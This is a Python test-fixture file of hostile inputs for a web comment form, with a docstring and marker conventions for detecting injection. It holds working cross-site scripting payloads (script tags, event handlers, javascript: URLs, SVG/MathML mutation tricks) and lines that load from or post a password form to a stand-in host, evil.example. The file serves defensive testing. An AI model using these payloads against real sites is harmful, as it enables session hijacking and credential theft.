"""Hostile and odd input for the comment form: markup, scripts, URLs, long and
strange text.

Every payload that tries to create an element or an attribute names it with
MARKER (``id``, ``class`` or ``name``), and every script in it calls ``alert``:
a test finds an injection by the marker, by an ``on…`` attribute, a
``javascript:``/``data:`` address or a dialog, whatever the payload's trick.
"""

from dataclasses import dataclass

MARKER = "xss-probe"
LONG = 10_000


@dataclass(frozen=True)
class Payload:
    """One hostile value, posted as comment text, author name and website."""

    name: str
    value: str


PAYLOADS = (
    # Script tags, plain and disguised.
    Payload("script-tag", f'<script id="{MARKER}">alert("script-tag")</script>'),
    Payload("script-src", f"<SCRIPT class={MARKER} SRC=https://evil.example/x.js>"),
    Payload("script-split", "<scr<script>ipt>alert('split')</scr</script>ipt>"),
    Payload("script-unclosed", "<<script>alert('unclosed');//<</script>"),
    Payload("script-comment", "<!-- --><script>alert('comment')</script><!-- -->"),
    Payload("script-cdata", "<![CDATA[<script>alert('cdata')</script>]]>"),
    Payload("textarea-breakout", "</textarea><script>alert('textarea')</script>"),
    Payload("title-breakout", "</title><script>alert('title')</script>"),
    Payload("attribute-breakout", '"><script>alert("attribute")</script>'),
    Payload("single-quote-breakout", "' onmouseover='alert(1)' autofocus='"),
    Payload("double-quote-breakout", '" onfocus="alert(1)" autofocus="'),
    Payload("json-breakout", '"}]</script><script>alert("json")</script>'),
    # Event-handler attributes.
    Payload("img-onerror", f"<img class={MARKER} src=x onerror=alert('img')>"),
    Payload("body-onload", f"<body id={MARKER} onload=alert('body')>"),
    Payload(
        "div-onmouseover",
        f'<div id="{MARKER}" onmouseover="alert(\'div\')">Maus hierher</div>',
    ),
    Payload("a-onclick", f'<a class="{MARKER}" href="#" onclick="alert(1)">klick</a>'),
    Payload("input-onfocus", f"<input name={MARKER} autofocus onfocus=alert('input')>"),
    Payload(
        "details-ontoggle", f"<details id={MARKER} open ontoggle=alert('details')>"
    ),
    Payload("video-onerror", f"<video><source class={MARKER} onerror=alert('video')>"),
    # javascript: and data: addresses, as links and as the website.
    Payload("markdown-javascript", "[Zur Seite](javascript:alert('markdown'))"),
    Payload("href-javascript", f'<a id="{MARKER}" href="javascript:alert(1)">x</a>'),
    Payload("href-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    Payload("href-entity-tab", '<a href="java&#x09;script:alert(1)">x</a>'),
    Payload("bare-javascript", "javascript:alert(document.domain)"),
    Payload(
        "bare-data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    ),
    Payload("markdown-data", "[Bild](data:text/html,<script>alert('data')</script>)"),
    Payload("bare-vbscript", "vbscript:msgbox(1)"),
    Payload("url-quote-breakout", 'https://example.org/"onmouseover="alert(1)'),
    Payload("url-script-path", "https://example.org/<script>alert(1)</script>"),
    Payload("url-protocol-relative", "//evil.example/%0a%0dalert(1)"),
    Payload("url-svg-query", "example.org/?q=<svg/onload=alert(1)>"),
    Payload("url-javascript-host", "javascript.example/%0aalert(1)"),
    Payload("url-userinfo", "https://vertrauen.example@evil.example/"),
    Payload("url-unicode", "https://bücher.example/straße?ä=ö"),
    Payload("url-rtl", "https://example.org/\u202egnp.exe"),
    Payload(
        "markdown-title-breakout", '[x](https://example.org "a\\" onclick=\\"alert(1))'
    ),
    # SVG and MathML.
    Payload("svg-onload", f"<svg id={MARKER} onload=alert('svg')>"),
    Payload("svg-script", "<svg><script>alert('svg-script')</script></svg>"),
    Payload(
        "svg-xlink",
        f'<svg><a class="{MARKER}" xlink:href="javascript:alert(1)">'
        '<text x="0" y="20">klick</text></a></svg>',
    ),
    Payload(
        "svg-animate", f"<svg><animate id={MARKER} onbegin=alert(1) attributeName=x>"
    ),
    Payload(
        "mathml-mxss",
        f"<math><mtext><table><mglyph><style><img class={MARKER} src=x "
        "onerror=alert('mathml')>",
    ),
    Payload("mathml-href", f'<math id="{MARKER}" href="javascript:alert(1)">x</math>'),
    Payload(
        "noscript-mxss",
        f'<noscript><p title="</noscript><img class={MARKER} src=x onerror=alert(1)>">',
    ),
    # Broken, nested and foreign markup.
    Payload("unclosed-formatting", "<b><i><u>nicht geschlossen"),
    Payload("closing-the-page", "</div></section></main></body></html><h1>Übernommen"),
    Payload("deep-nesting", "<blockquote>" * 200 + "tief" + "</blockquote>" * 200),
    Payload("iframe", f'<iframe id="{MARKER}" src="javascript:alert(1)"></iframe>'),
    Payload("object-data", f'<object id="{MARKER}" data="data:text/html,x"></object>'),
    Payload("base-href", f'<base id="{MARKER}" href="https://evil.example/">'),
    Payload(
        "meta-refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">'
    ),
    Payload(
        "fake-form",
        f'<form id="{MARKER}" action="https://evil.example/"><input type="password">'
        "<button>Anmelden</button></form>",
    ),
    Payload("template-syntax", "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>"),
    Payload(
        "escaped-markup", "&lt;img src=x onerror=alert('double')&gt; &amp;lt;b&amp;gt;"
    ),
    # CSS injection and third-party loads.
    Payload("style-element", "<style>body { display: none !important }</style>"),
    Payload(
        "style-attribute",
        f'<p class="{MARKER}" style="position:fixed;inset:0;background:red">rot</p>',
    ),
    Payload("style-breakout", "</style><script>alert('style')</script>"),
    Payload(
        "stylesheet-link", f"<link class={MARKER} rel=stylesheet href=//evil.example/>"
    ),
    Payload(
        "css-expression", "color: expression(alert(1)); background: url(javascript:1)"
    ),
    Payload("markdown-image", "![Zählpixel](https://tracker.example/pixel.png)"),
    Payload(
        "img-tracker", f'<img class="{MARKER}" src="https://tracker.example/p.gif">'
    ),
    # Length and width.
    Payload("long-word", "A" * LONG),
    Payload("long-text", ("Sehr viel zu sagen. " * (LONG // 20))[:LONG]),
    Payload("long-url", "https://example.org/" + "weg/" * 120),
    Payload("emoji-run", "😀" * 500),
    # Right-to-left, zero-width and other odd characters.
    Payload("rtl-override", "Rechnung\u202egnp.exe"),
    Payload("rtl-text", "مرحبا بالعالم – שלום עולם – Grüße"),
    Payload("bidi-isolates", "\u2067لا\u2069 \u2066Text\u2069 \u200f!"),
    Payload("zero-width", "Java\u200bscript\u200c:\u200dalert(1)\ufeff"),
    Payload("zero-width-scheme", "java\u200bscript:alert(1)"),
    Payload("combining-marks", "Z\u0351\u036b\u0343\u036a\u0302\u036ba\u0310lgo" * 20),
    Payload("fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    Payload("emoji", "👩‍💻 🏳️‍🌈 👍🏽 🇩🇪 Grüße aus Köln"),
    Payload("nul-byte", "vor\x00nach <script>alert('nul')</script>"),
    Payload("control-characters", "\x01\x02\x07\x1b[31mrot\x1b[0m\x7f"),
    Payload("line-separators", "eins\u2028zwei\u2029drei\r\nvier\rfünf"),
)
